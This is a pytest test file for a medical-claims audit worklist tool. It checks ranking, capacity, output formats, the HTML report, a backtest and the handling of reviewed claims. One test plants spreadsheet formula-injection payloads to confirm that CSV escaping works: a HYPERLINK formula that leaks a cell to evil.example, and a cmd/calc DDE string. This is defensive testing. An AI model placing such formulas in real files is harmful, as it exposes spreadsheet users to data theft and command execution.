"""Audit worklist: ranking, capacity/budget, formats, report, backtest against the training labels."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

from serving import audit, batch


@pytest.fixture(scope="module")
def window(trained):
    d = trained["history"].claims["submitted_date"]
    return str(pd.Timestamp(d.quantile(0.3)).date()), str(pd.Timestamp(d.quantile(0.7)).date())


@pytest.fixture(scope="module")
def audited(trained, window, tmp_path_factory):
    out = tmp_path_factory.mktemp("audit")
    summary = audit.audit_cli(trained["data_dir"], out, since=window[0], until=window[1], capacity=60)
    return out, summary


def test_ranking_and_capacity(audited):
    out, summary = audited
    w = pd.read_csv(out / "worklist.csv", dtype={"claim_id": str, "billing_npi": str})
    assert len(w) == 60 == summary["reviews"]
    assert (w["rank"] == np.arange(1, 61)).all()
    assert (np.diff(w["expected_recoupment_dollars"].to_numpy()) <= 1e-9).all()
    assert w["claim_id"].is_unique and (w["paid_amount"] > 0).all()
    assert np.allclose(w["cumulative_expected_dollars"], w["expected_recoupment_dollars"].cumsum(), atol=0.05)
    # amounts: never more than the payment; expected dollars = probability x amount at risk
    assert (w["amount_at_risk"] <= w["paid_amount"] + 0.01).all()
    assert np.allclose(
        w["expected_recoupment_dollars"],
        w["recoupment_probability"] * w["amount_at_risk"],
        atol=0.02 + 1e-3 * w["expected_recoupment_dollars"],
    )
    assert (w["reason_1"].fillna("") != "").all()  # every worklist row is explained
    pq = pd.read_parquet(out / "worklist.parquet")
    for col in ("causes", "reasons", "rule_hits"):  # the JSON columns are for programs: in the Parquet only
        assert col not in w.columns
        pq[col].map(json.loads)


def test_formats_round_trip(audited):
    out, _ = audited
    a = pd.read_csv(out / "worklist.csv", dtype={"claim_id": str, "billing_npi": str, "payer_id": str})
    b = pd.read_parquet(out / "worklist.parquet")
    assert list(a.columns) == [c for c in b.columns if c not in audit.JSON_COLUMNS]
    assert (a["claim_id"] == b["claim_id"]).all()
    np.testing.assert_allclose(a["expected_recoupment_dollars"], b["expected_recoupment_dollars"])


def test_budget_hours(trained, window, tmp_path):
    s = audit.audit_cli(
        trained["data_dir"], tmp_path, since=window[0], until=window[1], budget_hours=5, minutes_per_review=12
    )
    assert s["reviews"] == 25 == len(pd.read_csv(tmp_path / "worklist.csv"))
    s = audit.audit_cli(
        trained["data_dir"],
        tmp_path,
        since=window[0],
        until=window[1],
        budget_hours=5,
        minutes_per_review=12,
        capacity=10,
    )
    assert s["reviews"] == 10
    assert audit.review_capacity(1000, None, 1.0, 7.0) == 8


class _Parser(HTMLParser):
    def __init__(self):
        super().__init__()
        self.imgs, self.rows, self.refs, self.scripts = [], 0, [], 0

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "img":
            self.imgs.append(a.get("src", ""))
        if tag == "tr":
            self.rows += 1
        if tag == "script":
            self.scripts += 1
        for k in ("src", "href"):
            if a.get(k):
                self.refs.append(a[k])


def test_report_renders(audited):
    out, _ = audited
    text = (out / "report.html").read_text(encoding="utf-8")
    p = _Parser()
    p.feed(text)
    assert len(p.imgs) >= 5 and all(s.startswith("data:image/png;base64,") for s in p.imgs)
    assert p.rows > 60  # worklist rows + provider headers + summary tables
    assert p.scripts == 0
    assert not any(r.startswith(("http://", "https://", "//")) for r in p.refs)
    assert not re.search(r"(?:src|href)\s*=\s*['\"]?(?:https?:)?//", text)
    assert "Worklist by provider" in text and "Capacity curve" not in p.refs


def test_backtest_matches_labels(trained, audited, window):
    """The backtest's numbers equal a direct computation from training.labels.make_labels."""
    from training.labels import make_labels

    _, summary = audited
    bt = summary["backtest"]
    history = trained["history"]
    meta_h = 365
    as_of = history.last_date
    labels = make_labels(history, as_of, meta_h)
    w = pd.read_csv(audited[0] / "worklist.csv", dtype={"claim_id": str})
    # ranking of all paid window claims: recompute via the same pipeline
    scorer = batch.load_scorer(trained["bundle_dir"])
    bs = batch.score_window(history, scorer, pd.Timestamp(window[0]), pd.Timestamp(window[1]))
    wl = audit.build_worklist(bs, scorer, capacity=60, data_dir=trained["data_dir"])
    assert list(wl.worklist["claim_id"]) == list(w["claim_id"])
    ranked = wl.ranked["claim_id"].to_numpy()
    lab = labels.reindex(ranked)
    mature = lab["mature"].to_numpy(dtype=bool)
    if not mature.any():
        assert bt is None
        return
    m = lab[mature]
    k = min(60, len(m))
    assert bt["n_mature"] == len(m) and bt["capacity"] == k
    assert bt["positives"] == int(m["label"].sum())
    assert bt["model"]["claims"] == int(m["label"].iloc[:k].sum())
    assert bt["model"]["dollars"] == pytest.approx(float(m["recouped_amount"].iloc[:k].sum()), abs=0.01)
    assert bt["random"]["dollars"] == pytest.approx(k * m["recouped_amount"].sum() / len(m), abs=0.01)
    # outcome columns of the worklist agree with the labels
    known = w[w["outcome_known"]]
    assert (known["recouped"].to_numpy() == labels.loc[known["claim_id"], "label"].to_numpy()).all()


def test_amounts_at_risk_by_cause(trained):
    """Whole payment for duplicate/eligibility; bundling/units never exceed the payment."""
    history = trained["history"]
    scorer = batch.load_scorer(trained["bundle_dir"])
    bs = batch.score_window(history, scorer)
    paid = bs.claims["paid_amount"].fillna(0).to_numpy()
    idx = np.flatnonzero(paid > 0)
    share = scorer.bundle.meta.get("cause_amount_share", {})
    r = audit.amounts_at_risk(bs, idx, share)
    p = paid[idx]
    assert np.allclose(r["duplicate"], p) and np.allclose(r["eligibility"], p)
    assert (r["bundling"] <= p + 1e-6).all() and (r["units"] <= p + 1e-6).all()
    mue = bs.feats.hits[bs.feats.hits["rule"] == "mue"]["claim_id"].unique()
    has = r.index.isin(mue)
    assert has.any(), "the history has paid claims over an MUE limit"
    # hit claims: excess share of the lines, not the learned share
    assert not np.allclose(r.loc[has, "units"], p[has] * float(share.get("units", 1.0)))


# ------------------------------------------------------------------------------------------ output written safely
def test_worklist_csv_escapes_formulas_and_keeps_numbers(trained, window, tmp_path):
    """A reviewer opens worklist.csv in a spreadsheet: text cells that would run as formulas are escaped;
    amounts (negative ones too) stay numbers; the Parquet keeps the values as they are."""
    scorer = batch.load_scorer(trained["bundle_dir"])
    bs = batch.score_window(trained["history"], scorer, pd.Timestamp(window[0]), pd.Timestamp(window[1]))
    wl = audit.build_worklist(bs, scorer, capacity=5)
    evil = '=HYPERLINK("http://evil.example/?d="&B2,"open me")'
    wl.worklist.loc[0, "claim_id"] = evil
    wl.worklist.loc[1, "payer_id"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    wl.worklist.loc[2, "reason_1"] = "-2+3"
    wl.worklist.loc[3, "paid_amount"] = -12.5
    audit.write_worklist(wl, tmp_path / "a")
    raw = pd.read_csv(tmp_path / "a" / "worklist.csv", dtype=str, keep_default_na=False)
    assert raw.loc[0, "claim_id"] == "'" + evil
    assert raw.loc[1, "payer_id"].startswith("'@") and raw.loc[2, "reason_1"] == "'-2+3"
    assert raw.loc[3, "paid_amount"] == "-12.5"  # a number, not escaped
    text_cells = raw.select_dtypes(object).to_numpy().ravel()
    assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in text_cells)
    pq = pd.read_parquet(tmp_path / "a" / "worklist.parquet")
    assert pq.loc[0, "claim_id"] == evil


def test_audit_out_refused_when_used_or_holding_the_data(trained, window, tmp_path):
    from features.errors import RecoupError

    used = tmp_path / "used"
    used.mkdir()
    (used / "worklist.csv").write_text("a reviewer's notes")
    (used / "old_report.html").write_text("older")
    with pytest.raises(RecoupError, match="not an earlier output of `recoup audit`.*--overwrite"):
        audit.audit_cli(trained["data_dir"], used, since=window[0], until=window[1], capacity=5)
    assert sorted(p.name for p in used.iterdir()) == ["old_report.html", "worklist.csv"]
    audit.audit_cli(trained["data_dir"], used, since=window[0], until=window[1], capacity=5, overwrite=True)
    assert sorted(p.name for p in used.iterdir()) == [
        ".recoup-output.json",
        "report.html",
        "worklist.csv",
        "worklist.parquet",
    ]
    import shutil

    outer = tmp_path / "outer"
    shutil.copytree(trained["data_dir"], outer / "data")
    with pytest.raises(RecoupError, match="holds the --data folder"):
        audit.audit_cli(outer / "data", outer, capacity=5, overwrite=True)
    assert (outer / "data" / "claims.csv").exists()
    (tmp_path / "afile").write_text("x")
    with pytest.raises(RecoupError, match="is a file, not a folder"):
        audit.audit_cli(trained["data_dir"], tmp_path / "afile" / "out", capacity=5)


# ------------------------------------------------------------------------------------------ reviewed claims
def test_claims_already_reviewed_are_left_out(trained, window, audited, tmp_path, capsys):
    """Claims with a review outcome in the store (any outcome) leave the worklist; the summary counts them."""
    from features.store.ingest import ingest
    from features.store.reviews import record_reviews

    out, summary = audited
    assert summary["reviewed_left_out"] == 0
    top = pd.read_csv(out / "worklist.csv", dtype={"claim_id": str})["claim_id"].head(3).tolist()
    store = tmp_path / "store"
    ingest([trained["data_dir"]], store)
    record_reviews(
        store,
        pd.DataFrame(
            {
                "claim_id": top,
                "reviewed_at": [window[1]] * 3,
                "outcome": ["no_issue", "error_found", "appealed_upheld"],
                "reviewer": ["u1", "u2", "u1"],
            }
        ),
    )
    capsys.readouterr()
    s = audit.audit_cli(store, tmp_path / "out", since=window[0], until=window[1], capacity=60)
    assert "3 claim(s) already reviewed left out" in capsys.readouterr().out
    w = pd.read_csv(tmp_path / "out" / "worklist.csv", dtype={"claim_id": str})
    assert s["reviewed_left_out"] == 3 and len(w) == 60
    assert not set(top) & set(w["claim_id"])
    assert s["paid_claims"] == summary["paid_claims"] - 3


def test_a_claim_whose_latest_review_is_withdrawn_is_back_on_the_worklist(trained, window, audited, tmp_path):
    """An outcome taken back (``withdrawn``, what the workbench writes when a status is reset) makes the claim
    unreviewed again; a claim whose outcome was changed (no issue after an error found) stays reviewed."""
    from features.store.ingest import ingest
    from features.store.reviews import record_reviews

    out, summary = audited
    top = pd.read_csv(out / "worklist.csv", dtype={"claim_id": str})["claim_id"].head(3).tolist()
    store = tmp_path / "store"
    ingest([trained["data_dir"]], store)
    at = f"{window[1]}T10:00:00Z"
    later = f"{window[1]}T10:00:01Z"
    record_reviews(
        store,
        pd.DataFrame(
            {
                "claim_id": [top[0], top[0], top[1], top[1], top[2]],
                "reviewed_at": [at, later, at, later, at],
                "outcome": ["error_found", "withdrawn", "error_found", "no_issue", "withdrawn"],
                "refund_amount": [100.0, None, 100.0, None, None],
                "reviewer": ["u1"] * 5,
            }
        ),
    )
    s = audit.audit_cli(store, tmp_path / "out", since=window[0], until=window[1], capacity=60)
    w = pd.read_csv(tmp_path / "out" / "worklist.csv", dtype={"claim_id": str})
    assert s["reviewed_left_out"] == 1 and s["paid_claims"] == summary["paid_claims"] - 1
    assert top[0] in set(w["claim_id"]) and top[2] in set(w["claim_id"]) and top[1] not in set(w["claim_id"])
